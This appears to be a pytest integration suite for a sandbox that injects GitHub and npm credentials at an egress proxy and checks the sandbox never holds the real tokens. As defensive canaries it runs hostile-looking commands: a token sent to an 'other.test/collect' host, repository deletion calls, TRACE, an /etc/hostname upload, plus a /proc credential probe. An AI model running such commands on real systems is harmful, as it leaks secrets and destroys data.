"""Credentials injected at the edge, through a real bottle with real clients.

The bottle gets placeholders; `curl` (Bearer), `git` (Basic, after a 401) and `npm`
(`_authToken` in an .npmrc written inside from the placeholder) reach loopback HTTPS
upstreams that answer only the real tokens. The upstreams see the real tokens; the
bottle never holds them (environment, /proc, files); the placeholder sent elsewhere is
refused and audited; writes through the built-in read-only rules are refused.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.integration.auth_upstreams import AuthUpstreams
from tests.integration.conftest import BottleEnv, real_python
from tests.integration.dev_upstreams import NPM_PACKAGE, NPM_VALUE, WHEEL_PROJECT, WHEEL_VALUE

pytestmark = pytest.mark.integration

GITHUB_TOKEN = "ghp_" + "Qm3Zr8Tx1Wb6Kp0Lc5Vn9Hd2Jf7Gs4Ye1Ua3Io"[:36]  # shaped, issued by nobody
NPM_TOKEN = "npm_" + "Xt4Bq9Lm2Wd7Rk1Vz6Pc3Hs8Nf5Jg0Ya2Eu4Oi"[:36]
RUN_TIMEOUT = 180


@pytest.fixture
def auth(tmp_path: Path, bottle_env: BottleEnv) -> Iterator[AuthUpstreams]:
    directory = tmp_path / "auth"
    directory.mkdir()
    upstreams = AuthUpstreams(directory, GITHUB_TOKEN, NPM_TOKEN)
    secrets = tmp_path / "secrets"
    secrets.mkdir(mode=0o700)
    (secrets / "github").write_text(GITHUB_TOKEN + "\n")
    bottle_env.env["HOST_NPM_TOKEN"] = NPM_TOKEN
    egress = (
        upstreams.egress_config().replace('allow = ["', 'allow = ["plain.test", "')
        + f'"plain.test" = "127.0.0.1:{bottle_env.upstream.port}"\n'
    )
    bottle_env.write_config(
        egress
        + f"""
[[credentials.inject]]
hosts = ["api.github.com", "github.com", "plain.test"]
env = "GITHUB_TOKEN"
also_env = ["GH_TOKEN"]
secret = "command:sh -c 'echo run >> {secrets / "runs"}; cat {secrets / "github"}'"

[[credentials.inject]]
hosts = ["registry.npmjs.org"]
env = "NPM_TOKEN"
secret = "env:HOST_NPM_TOKEN"
"""
    )
    yield upstreams
    upstreams.close()


def _audit(be: BottleEnv) -> list[dict[str, Any]]:
    lines = (be.state_dir() / "audit.jsonl").read_text().splitlines()
    return [json.loads(line) for line in lines]


def _denied(be: BottleEnv, rule: str) -> list[dict[str, Any]]:
    return [e for e in _audit(be) if e["decision"] == "deny" and e.get("rule") == rule]


def _ok(result: subprocess.CompletedProcess[str]) -> str:
    assert result.returncode == 0, f"exit {result.returncode}\n{result.stdout}\n{result.stderr}"
    return result.stdout


# Looks for the real tokens everywhere the bottle can read: its environment, every
# process's environment and command line, and the files under its home, the workspace,
# /tmp and /run. The tokens reach the probe obfuscated, so it holds them only in memory.
PROBE = """
import os, sys
KEYS = [bytes(b ^ 0x5A for b in bytes.fromhex(h)) for h in sys.argv[1:]]
found = []
def check(path, data):
    for key in KEYS:
        if key in data:
            found.append(path)
for name, value in os.environ.items():
    check("env " + name, value.encode())
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as f:
                    check(f"/proc/{pid}/{part}", f.read())
            except OSError:
                pass
roots = [os.environ["HOME"], os.getcwd(), "/tmp", "/run"]
for root in roots:
    for directory, dirs, files in os.walk(root):
        for name in files:
            path = os.path.join(directory, name)
            try:
                with open(path, "rb") as f:
                    check(path, f.read(1 << 20))
            except OSError:
                pass
print("placeholder", os.environ["GITHUB_TOKEN"] == os.environ["GH_TOKEN"])
print("found", found)
"""


def _obfuscated(token: str) -> str:
    return bytes(b ^ 0x5A for b in token.encode()).hex()


def test_real_clients_get_real_tokens_to_their_hosts_only(
    bottle_env: BottleEnv, auth: AuthUpstreams, tmp_path: Path
) -> None:
    be = bottle_env
    app = be.workspace / "app"
    app.mkdir()
    (app / "package.json").write_text('{"name": "app", "version": "1.0.0"}\n')
    probe = be.workspace / "probe.py"
    probe.write_text(PROBE)
    keys = f"{_obfuscated(GITHUB_TOKEN)} {_obfuscated(NPM_TOKEN)}"
    script = f"""
set -u
echo "== curl"
curl -sS --max-time 20 -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user
curl -sS --max-time 20 -H "Authorization: token $GH_TOKEN" -o /dev/null -w '%{{http_code}}\\n' \
    https://api.github.com/user
curl -sS --max-time 20 -H "Authorization: Bearer $GITHUB_TOKEN" http://plain.test/plain
curl -sS --max-time 20 -H "Authorization: bearer $GITHUB_TOKEN" https://api.github.com/graphql \
    -d '{{"query": "query {{ viewer {{ login }} }}"}}'
echo "== git"
git clone -q "https://x-access-token:$GITHUB_TOKEN@github.com/acme/repo.git" clone && \
    cat clone/README
echo "== npm"
printf '//registry.npmjs.org/:_authToken=%s\\n' "$NPM_TOKEN" > ~/.npmrc
cd app && npm install --fund=false --registry https://registry.npmjs.org/ {NPM_PACKAGE} \
    >/dev/null 2>&1 && node -e 'console.log(require("{NPM_PACKAGE}"))'
cd ..
echo "== probe"
{real_python() if be.backend == "namespace" else "python3"} -I -S probe.py {keys}
"""
    out = _ok(be.sh(script, timeout=RUN_TIMEOUT))
    assert '"login": "octocat"' in out and "\n200\n" in out, out
    assert '{"data": {"viewer": {"login": "octocat"}}}' in out, out
    assert "seeded" in out, out
    assert NPM_VALUE in out, out
    assert "placeholder True" in out and "found []" in out, out
    assert GITHUB_TOKEN not in out and NPM_TOKEN not in out
    # the upstreams saw the real tokens, never a placeholder
    github = [
        s for s in auth.seen if s.host in ("api.github.com", "github.com") and s.authorization
    ]
    assert github and all(
        GITHUB_TOKEN in s.authorization or "Basic" in s.authorization for s in github
    )
    basic = [s for s in github if s.host == "github.com"]
    assert basic and all(s.authorization.startswith("Basic ") for s in basic)
    npm = [s for s in auth.seen if s.host == "registry.npmjs.org"]
    assert npm and all(s.authorization == f"Bearer {NPM_TOKEN}" for s in npm)
    (plain,) = be.upstream.requests
    assert plain.headers["authorization"] == f"Bearer {GITHUB_TOKEN}"
    placeholder = [
        e for e in _audit(be) if e["kind"] == "egress" and e.get("detail", {}).get("injected")
    ]
    assert {tuple(e["detail"]["injected"]) for e in placeholder} == {
        ("GITHUB_TOKEN",),
        ("NPM_TOKEN",),
    }
    # The command the secret comes from ran once: for the plan (the placeholder's shape),
    # its output then handed to the bundle, not run again there.
    assert (tmp_path / "secrets" / "runs").read_text() == "run\n"


def test_placeholder_elsewhere_writes_and_reflections_are_refused(
    bottle_env: BottleEnv, auth: AuthUpstreams
) -> None:
    be = bottle_env
    pkg = be.workspace / "pkg"
    pkg.mkdir()
    (pkg / "package.json").write_text('{"name": "cbtest-publish", "version": "1.0.0"}\n')
    script = """
set -u
echo "== canary"
curl -sS --max-time 20 -H "Authorization: Bearer $GITHUB_TOKEN" https://other.test/collect
curl -sS --max-time 20 -u "me:$NPM_TOKEN" https://api.github.com/user
echo "== write"
curl -sS --max-time 20 -X DELETE -H "Authorization: Bearer $GITHUB_TOKEN" \
    https://api.github.com/repos/acme/repo
curl -sS --max-time 20 -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/graphql \
    -d '{"query": "mutation { deleteRepository(input: {}) { clientMutationId } }"}'
echo "== trace"
curl -sS --max-time 20 -X TRACE https://api.github.com/
echo "== reflect"
curl -sS --max-time 20 -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/echo-auth \
    || echo "reflect-cut"
echo "== push"
git clone -q "https://x-access-token:$GITHUB_TOKEN@github.com/acme/repo.git" clone
cd clone && echo change >> README && git -c user.name=a -c user.email=a@b commit -qam change
git push -q origin HEAD:main 2>&1 | grep -oE 'HTTP 403|git-push-outside-gate' | head -1
cd ..
echo "== publish"
printf '//registry.npmjs.org/:_authToken=%s\\n' "$NPM_TOKEN" > ~/.npmrc
cd pkg && npm publish --registry https://registry.npmjs.org/ 2>&1 | grep -o 'E403' | head -1
"""
    out = be.sh(script, timeout=RUN_TIMEOUT).stdout
    assert GITHUB_TOKEN not in out and NPM_TOKEN not in out
    assert out.count("rule credential-wrong-host") == 2, out
    assert "rule l7:api.github.com" in out and "[[egress.rules]]" in out, out
    assert "rule credential-trace" in out, out
    assert "has a mutation operation" in out, out
    assert not [s for s in auth.seen if b"mutation" in s.body]
    assert "you sent" not in out, out
    assert "E403" in out, out
    # git push leaves only through the git gate: refused before the host's rules apply.
    assert "== push\ngit-push-outside-gate\n" in out or "== push\nHTTP 403\n" in out, out
    assert _denied(be, "git-push-outside-gate"), out
    seen = {(s.host, s.method, s.path) for s in auth.seen}
    assert ("other.test", "GET", "/collect") not in seen
    assert not any(s.method in ("PUT", "DELETE", "TRACE") for s in auth.seen), seen
    assert not any(s.path.endswith("/git-receive-pack") and s.method == "POST" for s in auth.seen)
    assert len(_denied(be, "credential-wrong-host")) == 2
    assert _denied(be, "l7:registry.npmjs.org") and _denied(be, "l7:api.github.com")
    assert _denied(be, "credential-in-response")


def test_registries_install_but_refuse_uploads(bottle_env: BottleEnv, auth: AuthUpstreams) -> None:
    """Built-in read-only rules for a registry listed in allow: pip installs from PyPI
    and its file host; an upload to PyPI's upload host is refused with the rule's hint."""
    be = bottle_env
    python = real_python() if be.backend == "namespace" else "python3"
    script = f"""
{python} -m venv venv && venv/bin/pip install -q --index-url https://pypi.org/simple \
    {WHEEL_PROJECT} && venv/bin/python -c 'import cbtest_pkg; print(cbtest_pkg.VALUE)'
curl -sS --max-time 20 -X POST -F ':action=file_upload' -F 'content=@/etc/hostname' \
    https://upload.pypi.org/legacy/
"""
    out = be.sh(script, timeout=RUN_TIMEOUT).stdout
    assert WHEEL_VALUE in out, out
    assert "rule l7:upload.pypi.org" in out and "[[egress.rules]]" in out, out
    assert not [s for s in auth.seen if s.host == "upload.pypi.org"]
    plan = json.loads(be.cli("plan", "--json", "--backend", be.backend, check=True).stdout)
    hosts = {rule["host"] for rule in plan["rules_in_force"]}
    assert {"pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "github.com"} <= hosts
